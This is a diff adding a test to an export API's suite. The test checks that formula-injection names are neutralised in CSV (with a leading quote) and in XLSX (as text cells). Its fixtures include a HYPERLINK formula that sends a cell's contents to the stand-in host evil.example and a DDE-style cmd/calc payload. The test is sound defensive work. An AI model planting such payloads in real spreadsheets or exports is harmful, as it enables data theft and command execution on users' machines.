@@ -3,6 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { es } from '@app/domain/messages/es';
 import * as schema from '../../src/db/schema/index.ts';
 import { call, loginAsSuper, startTestApp, type TestApp } from '../helpers/app.ts';
+import { asExisting } from '../helpers/existing.ts';
 import { client, databaseState, expectError } from '../helpers/expect.ts';
 import { cardAdmin, cardBody, cardWorld, createCard, setStatus, type CardWorld } from '../helpers/flashcards.ts';
 
@@ -104,6 +105,44 @@ describe('GET /api/<path>/export', () => {
     // The list's thumbnail column is not in the file; the name column reads the full name.
     expect(rows[0]).toEqual(['Nombre', 'Correo electrónico', 'Rol', 'Empresa', 'Creado', 'Modificado', 'Estatus']);
     expect(rows.find((r) => r[1] === 'super@example.com')?.slice(0, 3)).toEqual(['Super Usuario', 'super@example.com', 'Super Usuario']);
+  });
+
+  it('writes a text a spreadsheet would run as a formula with a leading quote in CSV, and as a text cell in Excel', async () => {
+    const names = [
+      '=HYPERLINK("http://evil.example/?d="&A2,"Ver")',
+      '+SUMA(1;2)',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1+1)*cmd',
+      '\tTabulador',
+      '\rRetorno',
+      '-12.5',
+      'Ana = Beto',
+    ];
+    await asExisting(t, (tx) =>
+      tx.insert(schema.contacts).values(names.map((name, i) => ({ name, email: `contacto${i}@example.com`, message: 'Mensaje de prueba', createdAt: new Date(Date.UTC(2026, 0, 1, 0, i)) }))),
+    );
+    const rows = csvRows((await exportOf('/api/contacts/export?format=csv&sort=createdAt')).text);
+    expect(rows.slice(1).map((r) => r[0])).toEqual([
+      '\'=HYPERLINK("http://evil.example/?d="&A2,"Ver")',
+      "'+SUMA(1;2)",
+      "'-2+3+cmd|' /C calc'!A0",
+      "'@SUM(1+1)*cmd",
+      "'\tTabulador",
+      "'\rRetorno",
+      // A plain number holds no formula: it stays a number.
+      '-12.5',
+      'Ana = Beto',
+    ]);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load((await exportOf('/api/contacts/export?format=xlsx&sort=createdAt')).body as unknown as ArrayBuffer);
+    const cells = workbook.getWorksheet('Contactos')!.getColumn(1).values.slice(2);
+    // XML reads a carriage return as a line break.
+    expect(cells).toEqual(names.map((name) => name.replace('\r', '\n')));
+    workbook.getWorksheet('Contactos')!.getColumn(1).eachCell((cell) => {
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+    });
   });
 
   it('refuses bad parameters with a clear 400 and callers without the list permission with 403, changing nothing', async () => {
